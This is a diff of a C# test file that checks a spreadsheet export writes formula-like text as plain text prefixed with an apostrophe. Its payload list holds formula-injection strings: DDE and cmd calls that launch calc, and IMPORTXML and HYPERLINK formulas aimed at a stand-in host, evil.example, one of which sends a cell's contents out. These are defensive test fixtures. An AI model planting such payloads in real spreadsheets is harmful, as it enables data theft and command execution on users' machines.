@@ -9,21 +9,20 @@ public sealed class HostileTextTests
     public static TheoryData<string> FormulaPayloads =>
     [
         "=1+1", "=HYPERLINK(\"http://evil.example\",\"click\")", "+1+1", "-1+1", "@SUM(A1:A2)", "\t=1+1", "=cmd|' /C calc'!A0",
-        "=IMPORTXML(CONCAT(\"http://evil.example\",A1),\"//a\")", "＝1+1", "＋1", "－1", "＠SUM(1)", "=DDE(\"cmd\",\"/C calc\",\"x\")", "\n=1+1", "\r=1+1",
+        "=IMPORTXML(CONCAT(\"http://evil.example\",A1),\"//a\")", "＝1+1", "＋1", "－1", "＠SUM(1)", "=DDE(\"cmd\",\"/C calc\",\"x\")", "\n=1+1", "\r=1+1", "  =1+1", "'=1+1", "'' +1",
     ];
 
     public static TheoryData<string> LookAlikes => ["00123", "1E5", "TRUE", "2024-01-02", "1/2", "12:30", "12345678901234567", "#N/A", " ", "'quoted"];
 
     [Theory]
     [MemberData(nameof(FormulaPayloads))]
-    public async Task A_text_that_looks_like_a_formula_is_text_with_a_quote_prefix(string payload)
+    public async Task A_text_that_looks_like_a_formula_is_text_with_an_apostrophe_before_it(string payload)
     {
         using var book = await WorkbookSample.ReadBackAsync(new WorkbookSample.Line(Reason: payload));
         var tab = book["Decisions"];
         Assert.Equal("inlineStr", tab.Type("C3"));
         Assert.Null(tab.Formula("C3"));
-        Assert.Equal(payload.Replace('\r', '\n'), tab.Text("C3"));
-        Assert.Equal("1", (string?)book.Formats[tab.Style("C3")].Attribute("quotePrefix"));
+        Assert.Equal("'" + payload.Replace('\r', '\n'), tab.Text("C3"));
     }
 
     [Theory]
